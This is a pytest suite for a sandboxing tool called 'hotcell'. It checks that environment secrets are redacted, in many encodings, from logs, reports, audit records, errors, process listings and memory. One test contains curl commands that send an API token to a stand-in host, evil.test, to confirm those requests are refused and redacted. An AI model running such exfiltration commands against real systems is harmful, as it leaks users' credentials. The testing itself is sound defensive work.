"""What hotcell was given as a secret stands nowhere in what hotcell writes or says, however it is spelled."""

import base64
import json
import re
import subprocess
import urllib.parse

import pytest

from campaigns import Supervisor, campaign, sessions
from harness import Live, environment, eventually, hotcell, marker, run
from messages_api import MessagesApi, text

SECRET = 's3cr3t "Quo/ted"+v\\al\nüe'
SHAPED = "sk-ant-api03-abcdefghijklmnop-xyz"
PRINTS = r"""
import base64, json, os, re, sys, time, urllib.parse
value = os.environ["API_TOKEN"]
data = value.encode()
for stream in (sys.stdout, sys.stderr):
    quoted = urllib.parse.quote(value, safe="")
    units = [value.encode("utf-16-be")[i:i + 2].hex() for i in range(0, len(value.encode("utf-16-be")), 2)]
    for each in (value, data.hex(), data.hex().upper(), json.dumps(value, ensure_ascii=False), quoted, quoted.lower(),
                 json.dumps(value), json.dumps(value).replace("\\u00fc", "\\u00FC"), "".join("\\u" + unit for unit in units),
                 "".join("\\u" + unit.upper() for unit in units), "".join("%%%02x" % byte for byte in data),
                 "".join("%%%02X" % byte for byte in data), urllib.parse.quote(quoted, safe=""), data.hex(" "), data.hex(":").upper(),
                 data.upper().decode(), *(base64.encodebytes(b"x" * n + data).decode() for n in range(30, 60)),
                 *(re.sub("(.{64})", "\\\\1\\n", base64.b64encode(b"x" * n + data).decode()) for n in range(20, 48)), *(base64.b64encode(b"x" * n + data).decode() for n in range(3)),
                 *(base64.urlsafe_b64encode(b"x" * n + data).decode() for n in range(3))):
        stream.write("<" + each + ">\n")
    stream.write("seen %s and %s\n" % ("/".join(("", "home", "somebody", "file")), "-".join(("sk", "ant", "api03", "abcdefghijklmnop", "xyz"))))
    stream.flush()
    for each in ("utf-16-le", "utf-16-be"):
        os.write(stream.fileno(), ("<" + value + ">").encode(each))
    raw = os.fsencode(value)
    for cut in range(1, len(raw)): # over two writes
        os.write(stream.fileno(), raw[:cut])
        time.sleep(0.001)
        os.write(stream.fileno(), raw[cut:] + b"\n")
open("/workspace/left.txt", "w").write(value)
os.mkfifo("/workspace/fifo-" + urllib.parse.quote(value, safe=""))
sys.exit(3)
"""


def spellings(secret):
    data = secret.encode()
    yield from (data, data.hex().encode(), data.hex().upper().encode(), json.dumps(secret, ensure_ascii=False)[1:-1].encode(),
                json.dumps(secret)[1:-1].encode(), urllib.parse.quote(secret, safe="").encode(), data.upper(),
                secret.encode("utf-16-le"), secret.encode("utf-16-be"), data.hex(" ").encode(), data.hex(":").upper().encode())
    wide = secret.encode("utf-16-be")
    for spell in (str.lower, str.upper):
        yield "".join("\\u" + spell(wide[i:i + 2].hex()) for i in range(0, len(wide), 2)).encode()
        yield "".join("%" + spell("%02x" % byte) for byte in data).encode()
    twice = urllib.parse.quote(urllib.parse.quote(secret, safe=""), safe="")
    yield twice.encode()
    for columns in (76, 64):
        for before in range(columns // 4 * 3):
            lines = re.sub("(.{%d})" % columns, "\\1\n", base64.b64encode(b"x" * before + data).decode())
            count = (before + len(data)) * 8 // 6
            first = -(-before * 8 // 6)
            yield lines[first + first // columns:count + (count - 1) // columns].encode()
    for before in range(3):
        whole = base64.b64encode(b"x" * before + data)
        letters = whole[(0, 2, 3)[before]:(before + len(data)) * 8 // 6]
        yield from (letters, letters.replace(b"+", b"-").replace(b"/", b"_"))


def leaks(data, secret=SECRET):
    return [each for each in spellings(secret) if each in data]


def all_bytes(*folders):
    return b"\0".join(path.read_bytes() for folder in folders for path in sorted(folder.rglob("*"))
                      if path.is_file() and path.name not in ("left.txt",))


@pytest.fixture
def night(place):
    """A campaign whose runs print their secret in every way, and fail."""
    ran = campaign(place, "--name", "night", "--runs", "3", "--pass-env", "API_TOKEN", "--", "/usr/bin/python3", "-S", "-c", PRINTS,
                   env={"API_TOKEN": SECRET})
    assert ran.code == 1 and len(sessions(place)) == 3, ran
    assert leaks(ran.out + ran.err) == [], ran
    return place


def test_logs_markers_results_ledger_and_audit_log_of_a_campaign_do_not_have_it(night):
    assert leaks(all_bytes(night / ".hotcell", night / "fuzz")) == []
    folder = sessions(night)[1]
    assert b"*" * len(SECRET.encode()) in (folder / "stdout.log").read_bytes()
    assert json.loads((folder / "result.json").read_text())["result"]["stdout_bytes"] == len((folder / "stdout.log").read_bytes())
    # what a run left is the user's own
    assert (folder / "left.txt").read_text() == SECRET


def test_what_is_quoted_of_a_program_has_no_keys_and_no_homes(night):
    log, left = (sessions(night)[1] / name for name in ("stderr.log", "ERROR"))
    assert SHAPED in log.read_text() # the log itself is as it was printed, but for what was given
    assert SHAPED not in left.read_text() and "/home/somebody" not in left.read_text(), left.read_text()
    assert "[redacted:anthropic-key]" in left.read_text() and "[redacted:home]/file" in left.read_text()
    assert hotcell("report", "night", "-o", "page.html", cwd=night).code == 0
    page = (night / "page.html").read_bytes()
    assert leaks(page) == [] and SHAPED.encode() not in page and b"/home/somebody" not in page
    assert b"[redacted:anthropic-key]" in page


def test_no_verb_tells_it(night):
    for words in (["status", "night"], ["status", "night", "--json"], ["campaign", "show", "night"], ["campaign", "list", "--json"],
                  ["metrics"], ["logs", "night/1"], ["audit", "show"], ["audit", "show", "--json"], ["report", "night", "--json"]):
        ran = hotcell(*words, cwd=night)
        assert leaks(ran.out + ran.err) == [], (words, ran)


def test_a_command_line_with_it_is_kept_and_not_shown(place):
    plain = "plain-secret-value"
    ran = campaign(place, "--name", "typed", "--runs", "2", "--env", f"DB_PASSWORD={plain}", "--retries", "0", "--",
                   "/bin/sh", "-c", f'test "$DB_PASSWORD" = {plain}')
    assert ran.code == 0, ran
    assert hotcell("report", "typed", "-o", "page.html", cwd=place).code == 0
    shown = [hotcell(*words, cwd=place).out for words in (["status", "typed", "--json"], ["campaign", "show", "typed"],
                                                       ["campaign", "show", "typed/1"])]
    assert leaks(b"".join(shown) + (place / "page.html").read_bytes(), plain) == []
    assert b"*" * len(plain) in shown[0]


def test_what_is_only_planned_does_not_show_it(place):
    words = ["--env", "DB_PASSWORD=plain-secret-value", "--", "echo", "plain-secret-value"]
    for ran in (hotcell("run", "--explain", *words), campaign(place, "--runs", "1", "--dry-run", *words),
                campaign(place, "--runs", "1", "--dry-run", "--json", *words)):
        assert ran.code == 0 and leaks(ran.out, "plain-secret-value") == [] and b"****" in ran.out, ran


def test_a_variable_of_any_name_is_secret_if_it_is_said_to_be(place):
    script = 'echo "$COLOUR"; echo "$SHAPE" >&2; exit 1'
    options = ["--env", "COLOUR=vermilion-red", "--env", "SHAPE=dodecahedron", "--secret-env", "COLOUR"]
    assert campaign(place, "--runs", "1", *options, "--", "/bin/sh", "-c", script).code == 1
    assert leaks(all_bytes(place / "fuzz"), "vermilion-red") == []
    assert (sessions(place)[1] / "stderr.log").read_text() == "dodecahedron\n"


@pytest.mark.parametrize("name", ["PGPASSWORD", "SSHPASS", "DBPASSWORD", "userpassword", "MYTOKEN", "CLIENTSECRET", "PASSWORD1", "TOKEN_V2",
                                  "SECRETS", "DATABASE_URL"])
def test_a_variable_is_secret_if_its_name_ends_as_that_of_one(name):
    value = "Corr3ctHorse9"
    given = f"postgres://me:{value}@db/x" if name == "DATABASE_URL" else value
    ran = run("-q", "--redact", "--env", f"{name}={given}", "--", "/bin/sh", "-c", f'echo "${name}"; echo {value}')
    assert ran.code == 0 and ran.out == b"*" * len(given) + b"\n" + b"*" * len(value) + b"\n", ran


def test_a_long_key_in_lines_of_base64_is_not_shown():
    key = "".join(chr(33 + i * 37 % 94) for i in range(109))
    for command in ('printf %s "$API_KEY" | base64', 'printf "%s" "some words: $API_KEY" | base64 -w 64'):
        ran = run("-q", "--redact", "--env", f"API_KEY={key}", "--", "/bin/sh", "-c", command)
        letters = ran.out.replace(b"\n", b"")
        assert ran.code == 0 and letters.count(b"*") >= 109 * 8 // 6 - 1 and leaks(letters, key) == [], ran


def test_a_command_in_the_audit_log_has_no_value_of_an_option_for_a_secret(place):
    log = place / "audit.jsonl"
    ran = run("-q", "--audit", log, "--", "echo", "--password", "hunter2hunter2", "--token", "abc123def456", "--api-key", "k3yk3yk3yk3y",
              "-u", "admin:hunter2", "PGPASSWORD=hunter22", "dbpassword=hunter33", "Private-Token: abcdef", "stays")
    assert ran.code == 0, ran
    commands = [line["command"] for line in map(json.loads, log.read_text().splitlines()) if "command" in line]
    assert commands and "hunter" not in log.read_text() and "abcdef" not in log.read_text(), commands
    assert commands[0] == ("echo --password [redacted:password] --token [redacted:token] --api-key [redacted:api-key] "
                           "-u admin:[redacted:password] PGPASSWORD=[redacted:password] dbpassword=[redacted:password] "
                           "Private-Token: [redacted:token] stays")


def test_the_output_of_a_run_is_the_users_own_unless_asked_otherwise(place):
    options = ["--pass-env", "API_TOKEN", "--json-file", place / "result.json", "--audit", place / "audit.jsonl"]
    for redact in (False, True):
        ran = run(*options, *(["--redact"] if redact else []), "--", "/usr/bin/python3", "-S", "-c", PRINTS, env={"API_TOKEN": SECRET})
        assert ran.code == 3, ran
        assert bool(leaks(ran.out)) != redact and SHAPED.encode() in ran.out, ran
        assert leaks((place / "result.json").read_bytes() + (place / "audit.jsonl").read_bytes()) == []
        assert leaks(json.dumps(ran.result).encode()) == []


def test_ps_and_logs_of_a_live_cell_do_not_tell_it(place):
    plain, word = "plain-secret-value", marker()
    script = f': {word}; printf "%s\\n" "$DB_PASSWORD"; printf plain-; sleep 0.3; printf "secret-value\\n"; echo ready; : {plain}; sleep 60'
    with Live("--env", f"DB_PASSWORD={plain}", "--", "/bin/sh", "-c", script, json=False) as live:
        live.wait_for(b"ready")
        assert live.out.count(plain.encode()) == 2 # on its way to its user
        found = eventually(lambda: [line for line in hotcell("ps").out.splitlines() if word.encode() in line])
        assert len(found) == 1 and leaks(found[0], plain) == [], found
        logs = hotcell("logs", found[0].split()[0].decode())
        assert logs.code == 0 and logs.out.count(b"*" * len(plain)) == 2 and leaks(logs.out, plain) == [], logs
        assert leaks(hotcell("ps", "--json").out, plain) == []


@pytest.mark.parametrize("words", [
    ["run", "--env", "API_TOKEN={}", "--memory", "{}", "--", "true"],
    ["run", "--env", "API_TOKEN={}", "--mount", "{}:/x", "--", "true"],
    ["run", "--env", "API_TOKEN={}", "--require", "{}", "--", "true"],
    ["run", "--env", "API_TOKEN={}", "--", "{}"],
    ["run", "--env", "API_TOKEN={}", "--allow", "{}/x", "--", "true"],
    ["run", "--env", "API_TOKEN={}", "--{}", "--", "true"],
    ["run", "--env", "API_TOKEN={}", "--workdir", "/{}", "--", "true"],
    ["run", "--env", "API_TOKEN={}", "--manifest", "{}", "--", "true"],
    ["run", "--memory", "{}", "--env", "API_TOKEN={}", "--", "true"],
    ["run", "--{}", "--env=API_TOKEN={}", "--", "true"],
    ["run", "--memory", "{}", "--pass-env", "API_TOKEN", "--", "true"],
    ["run", "--pass-env", "API_TOKEN", "--mount", "{}:/x", "--", "true"],
    ["run", "--pass-env=API_TOKEN", "--require", "{}", "--", "true"],
    ["run", "--pass-env", "API_TOKEN", "--workdir", "/{}", "--", "true"],
    ["run", "--memory", "{}", "--pass-env", "COLOUR", "--secret-env", "COLOUR", "--", "true"],
    ["campaign", "run", "--name", "{}/x", "--pass-env", "API_TOKEN", "--", "true"],
    ["campaign", "run", "--env", "API_TOKEN={}", "--name", "{}/x", "--", "true"],
    ["campaign", "run", "--env", "API_TOKEN={}", "--output", "/proc/{}", "--", "true"],
    ["campaign", "run", "--env", "API_TOKEN={}", "--alert", "{}", "--", "true"],
])
def test_errors_do_not_repeat_it(place, words):
    for secret in ("token-for-the-tests", 'to"ken\\for-tests', "to\nken\tfor\x1btests-é", "long-" * 60 + "token"):
        ran = hotcell(*[word.format(secret) for word in words], cwd=place, env={"API_TOKEN": secret, "COLOUR": secret})
        assert ran.code in (2, 3, 125, 127) and ran.err, ran
        assert leaks(ran.out + ran.err, secret) == [], ran
        assert b"for\\x1btests" not in ran.err and b"long-long-long-" not in ran.err, ran # nor as a terminal shows it, nor a part


@pytest.mark.parametrize("backend", ["native", "none"])
def test_nothing_that_a_review_writes_has_what_is_in_the_environment_around_it(place, backend):
    """Also not where the attacks on it get through."""
    for secret in (SECRET, SHAPED):
        words = ["--backend", backend, "--only", "proc.secrets", "--only", "files.absolute", "--state", place / "state"]
        ran = hotcell("review", *words, "--html", place / "r.html", "--sarif", place / "r.sarif", "--save", place / "r.json", cwd=place,
                      timeout=120, env={"API_TOKEN": secret, "TOKEN": secret})
        assert ran.code in (0, 1), ran
        told = hotcell("review", *words, "--json", cwd=place, timeout=120, env={"API_TOKEN": secret, "TOKEN": secret})
        assert len(json.loads(told.out)["attacks"]) == 2, told
        written = [(place / name).read_bytes() for name in ("r.html", "r.sarif", "r.json", "state/audit.jsonl")]
        assert all(written) and leaks(b"\0".join(written) + ran.out + ran.err + told.out + told.err, secret) == [], ran
        for name in ("r.html", "r.sarif", "r.json"):
            (place / name).unlink()


def test_the_credential_of_a_secret_door_is_in_no_log_even_if_a_program_finds_it(place):
    key = "door-credential-0123456789"
    (place / "found").mkdir()
    (place / "found/key").write_text(key)
    (place / "found").chmod(0o755)
    with MessagesApi(key, [[text("hello")]]) as api:
        ran = campaign(place, "--runs", "1", "--mount", f"{place}/found:/found", "--secret-door",
                       f"anthropic={api.url},header=x-api-key,env=DOOR_KEY", "--", "/bin/sh", "-c",
                       "cat /found/key; cat /found/key >&2; exit 1", env={"DOOR_KEY": key})
    assert ran.code == 1, ran
    assert leaks(all_bytes(place / "fuzz", place / ".hotcell"), key) == []
    assert (sessions(place)[1] / "stdout.log").read_bytes() == b"*" * len(key)


def test_a_secret_in_a_name_that_was_asked_for_is_not_in_the_record(place):
    ran = run("--allow", "good.test", "--env", "API_TOKEN=SecretWithCapitals", "--network-log", place / "network.jsonl", "--",
              "/bin/sh", "-c", "curl -s https://$API_TOKEN.evil.test/; curl -s http://evil.test/$API_TOKEN; true")
    assert ran.code == 0, ran
    record = (place / "network.jsonl").read_text()
    assert record.count("refused") == 2 and "****" in record and "secretwithcapitals" not in record.lower(), record


def test_no_process_that_cells_are_made_of_has_the_credential(place):
    """The table of what is hidden is in memory that no fork hands on."""
    key = "door-credential-9876543210"
    with MessagesApi(key, [[text("hello")]]) as api:
        with Supervisor(place, "--runs", "1", "--secret-door", f"anthropic={api.url},header=x-api-key,env=DOOR_KEY", "--",
                        "/bin/sh", "-c", "sleep 20", env={"DOOR_KEY": key}) as it:
            it.wait_for("Starting")
            found = eventually(lambda: [each for each in json.loads(hotcell("ps", "--json").out)
                                        if each["supervisor"] == it.pid])
            for pid in zygotes(it.pid) | {found[0]["pid"]}:
                held = memory_of(pid) or b""
                # as only our table spells it: a sanitizer keeps a copy of the environment
                assert [each for each in spellings(key) if each in held and each != key.encode()] == [], pid
            it.kill(15)
            it.finish()


def zygotes(pid):
    lines = subprocess.run(["ps", "-eo", "pid=,ppid=,comm="], capture_output=True, check=True, env=environment(None)).stdout.decode()
    rows = [line.split(None, 2) for line in lines.splitlines()]
    return {int(each) for each, parent, name in rows if int(parent) == pid and "doord" not in name}


def memory_of(pid):
    """Everything it has mapped for itself; None where we may not look."""
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            parts = []
            for line in maps:
                start, end = (int(each, 16) for each in re.match(r"(\w+)-(\w+)", line).groups())
                if " rw" not in line[:60] or end - start > 64 << 20:
                    continue
                try:
                    memory.seek(start)
                    parts.append(memory.read(end - start))
                except OSError:
                    continue
            return b"".join(parts)
    except OSError:
        return None


